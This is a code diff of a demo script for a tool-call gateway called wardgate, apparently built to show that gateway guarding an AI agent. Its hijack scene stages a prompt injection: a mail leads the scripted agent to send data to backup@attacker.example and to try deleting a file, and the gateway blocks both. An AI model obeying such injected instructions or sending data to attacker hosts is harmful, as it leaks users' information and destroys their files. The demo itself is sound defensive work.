@@ -11,11 +11,19 @@ import subprocess
 import sys
 import tempfile
 from collections.abc import Callable, Mapping
+from contextlib import redirect_stdout
 from pathlib import Path
 from typing import Any
 
 from gateway.demo.client import ScriptedClient
 
+SCENES = (
+    "A read flows",
+    "A write asks a person",
+    "A secret in an output is redacted, the rest stays useful",
+    "A mail hijacks the agent: it does what the mail says",
+    "Every decision stands in a record that can be proven",
+)
 APPROVAL = re.compile(r"\ba_[0-9A-Z]{4,}\b")
 
 UPSTREAMS = """\
@@ -87,16 +95,21 @@ class NotShown(Exception):  # noqa: N818 - it is how the story ends early
     """A step of the demo did not really happen."""
 
 
-def play() -> int:
-    """Play the demo in a temporary folder and leave nothing behind; 0 only if every step really happened."""
+def play(*, aside: bool = False) -> tuple[str, ...]:
+    """Play the demo in a temporary folder and leave nothing behind; the scenes that really happened, in order.
+
+    `aside` tells it on standard error.
+    """
     with tempfile.TemporaryDirectory(prefix="wardgate-demo-") as place:
-        try:
-            Story(Path(place)).tell()
-        except (NotShown, RuntimeError) as problem:
-            print(f"\nThe demo did not come to its end: {problem}", file=sys.stderr)
-            return 1
-    print("\nAll of it really happened, and nothing is left behind.")
-    return 0
+        story = Story(Path(place))
+        with redirect_stdout(sys.stderr if aside else sys.stdout):
+            try:
+                story.tell()
+            except (NotShown, RuntimeError) as problem:
+                print(f"\nThe demo did not come to its end: {problem}", file=sys.stderr)
+            else:
+                print("\nAll of it really happened, and nothing is left behind.")
+    return tuple(story.happened)
 
 
 class Story:
@@ -108,6 +121,8 @@ class Story:
         cache = {"WARDGATE_CACHE": str(place / "cache")}
         self.env = {**os.environ, **cache, "PYTHONPATH": os.pathsep.join(entry for entry in sys.path if entry)}
         self.wardgate = [sys.executable, "-m", "gateway.cli.main"]
+        self.happened: list[str] = []
+        self._refused = ""  # the decision that is explained in the end
 
     def tell(self) -> None:
         """Set the scene, play each step, and look at the record at the end."""
@@ -121,14 +136,22 @@ class Story:
         try:
             tools = client.open()
             print(f"  the agent sees: {', '.join(tools)}")
-            self._read(client)
-            self._write(client)
-            self._secret(client)
-            refused = self._hijack(client)
+            for act in (self._read, self._write, self._secret, self._hijack):
+                self._headline()
+                act(client)
+                self._done()
         finally:
             code = client.close()
         check(code == 0, f"the gateway ended with {code}")
-        self._record(refused)
+        self._headline()
+        self._record()
+        self._done()
+
+    def _headline(self) -> None:
+        say(f"{len(self.happened) + 1}. {SCENES[len(self.happened)]}")
+
+    def _done(self) -> None:
+        self.happened.append(SCENES[len(self.happened)])
 
     @property
     def _config(self) -> list[str]:
@@ -146,41 +169,35 @@ class Story:
         (self.place / "upstreams.toml").write_text(filled, encoding="utf-8")
 
     def _read(self, client: ScriptedClient) -> None:
-        say("1. A read flows")
         text = told(client.call("files__read_file", {"path": "notes.txt"}))
         print(f"  files__read_file notes.txt -> {text.strip()}")
         check("4,200" in text, "the read did not flow")
 
     def _write(self, client: ScriptedClient) -> None:
-        say("2. A write asks a person")
         arguments = {"path": "reply.txt", "text": "Dear Ada, 4,200 it is."}
         result = client.call("files__write_file", arguments, self._person("approve", "Approve this write?"))
         print(f"  files__write_file reply.txt -> {told(result)}")
         check((self.world / "reply.txt").exists(), "the approved write has no effect on disk")
 
     def _secret(self, client: ScriptedClient) -> None:
-        say("3. A secret in an output is redacted, the rest stays useful")
         text = told(client.call("files__read_file", {"path": "deploy.env"}))
         print("  files__read_file deploy.env ->\n    " + text.strip().replace("\n", "\n    "))
         check(self.token not in text and "[REDACTED:" in text and "REGION=eu-1" in text, "the token was not redacted")
 
-    def _hijack(self, client: ScriptedClient) -> str:
-        say("4. A mail hijacks the agent: it does what the mail says")
+    def _hijack(self, client: ScriptedClient) -> None:
         print("    " + told(client.call("mail__read_mail", {"id": "7"})).strip().replace("\n", "\n    "))
         result = client.call("mail__send_mail", {"to": "backup@attacker.example", "body": "4,200 for the tables"})
         print(f"  mail__send_mail -> {told(result)}")
         check(not (self.world / "outbox").exists(), "the hijacked mail was sent")
-        refused = str(result["_meta"]["dev.wardgate/decision"]["id"])
+        self._refused = str(result["_meta"]["dev.wardgate/decision"]["id"])
         deny = self._person("deny", None, "nobody asked for this to be deleted")
         result = client.call("files__delete_file", {"path": "notes.txt"}, deny)
         print(f"  files__delete_file -> {told(result)}")
         check((self.world / "notes.txt").exists(), "the hijacked delete went through")
         check(result.get("isError") is True, "the denied delete was not refused")
-        return refused
 
-    def _record(self, refused: str) -> None:
-        say("5. Every decision stands in a record that can be proven")
-        print(indent(self._command("explain", refused)))
+    def _record(self) -> None:
+        print(indent(self._command("explain", self._refused)))
         print(indent(self._command("verify")))
 
     def _person(self, vote: str, question: str | None, reason: str = "") -> Callable[[str], None]:
